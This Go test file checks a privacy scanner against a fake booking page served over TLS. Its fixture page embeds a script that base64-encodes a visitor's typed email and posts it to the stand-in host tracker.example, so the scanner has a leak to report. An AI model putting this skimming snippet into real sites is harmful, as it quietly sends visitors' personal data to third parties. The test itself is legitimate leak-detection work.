package trackers_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"

	"quietroom/rooms/trackers"
	"quietroom/rooms/trackers/chrome"
)

// What goes over TLS is read as what goes without, and a certificate that a
// visitor's browser would warn of is told.
func TestASiteOverTLSIsReadToo(t *testing.T) {
	needsBrowser(t)
	t.Parallel()
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Host == "harbor.example" && r.URL.Path == "/book" {
			fmt.Fprint(w, `<title>Book</title><form><label>E-mail <input name="email" type="email"></label><button>Send</button></form><script>document.querySelector('input').onchange=async (e)=>{fetch('https://tracker.example/c',{method:'POST',mode:'no-cors',keepalive:true,body:btoa(e.target.value)})}</script>`)
		}
	}))
	srv.EnableHTTP2 = true
	srv.StartTLS()
	t.Cleanup(srv.Close)
	n := chrome.Network{Lookup: func(context.Context, string) ([]netip.Addr, error) {
		return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
	},
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			if !strings.HasSuffix(addr, ":443") {
				return nil, fmt.Errorf("nobody listens at %s", addr)
			}
			return new(net.Dialer).DialContext(ctx, network, srv.Listener.Addr().String())
		}}
	r := scan(t, trackers.Once(trackers.Options{URL: "https://harbor.example/book", Pages: 1, Net: n}))
	found := false
	for _, f := range r.Findings {
		found = found || f.Kind == trackers.FormData && f.To == "tracker.example" && f.Encoding == "base64" && f.URL == "https://tracker.example/c"
	}
	if !found {
		t.Errorf("a leak over TLS was not found: %+v", r.Findings)
	}
	if !strings.Contains(strings.Join(r.Notes, "\n"), "certificate") {
		t.Errorf("nothing is said of a certificate that no browser believes: %q", r.Notes)
	}
}
